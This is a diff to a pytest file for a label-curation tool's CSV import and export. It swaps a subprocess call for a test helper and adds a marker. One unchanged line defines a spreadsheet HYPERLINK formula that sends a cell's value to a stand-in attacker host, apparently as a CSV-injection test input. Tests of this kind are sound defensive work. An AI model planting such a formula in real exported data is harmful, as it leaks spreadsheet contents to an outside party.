@@ -6,8 +6,6 @@ from __future__ import annotations
 import csv
 import json
 import os
-import subprocess
-import sys
 
 import pytest
 
@@ -17,6 +15,7 @@ from curation.export import export
 from curation.labels_csv import SHOWN, export_labels, import_labels
 from curation.run import curate
 from tests.curation.conftest import make_workspace
+from tests.helpers import studio
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
 
@@ -42,6 +41,7 @@ def test_a_field_over_the_csv_limit_is_one_bad_row(ws, tmp_path):
     assert "field larger than field limit" in report.bad[0] and len(report.bad[0]) < 200
 
 
+@pytest.mark.cli
 def test_ninety_thousand_unknown_hashes_are_summarised(ws, tmp_path):
     path = tmp_path / "many.csv"
     with open(path, "w", encoding="utf-8") as f:
@@ -49,8 +49,7 @@ def test_ninety_thousand_unknown_hashes_are_summarised(ws, tmp_path):
         for i in range(90_000):
             f.write(f"{i:064x},reject\n")
         f.write("nonsense,accept\n")
-    proc = subprocess.run([sys.executable, "-m", "studio", "labels", "import", str(path), "-w", str(ws)],
-                          capture_output=True, text=True, timeout=240, env=os.environ.copy())
+    proc = studio("labels", "import", path, "-w", ws, timeout=240)
     assert proc.returncode == 0, proc.stderr[-2000:]
     err = proc.stderr.strip().splitlines()
     assert len(err) == 1 + SHOWN + 1, err[:3]  # the bad row, the first unknown ones, a count
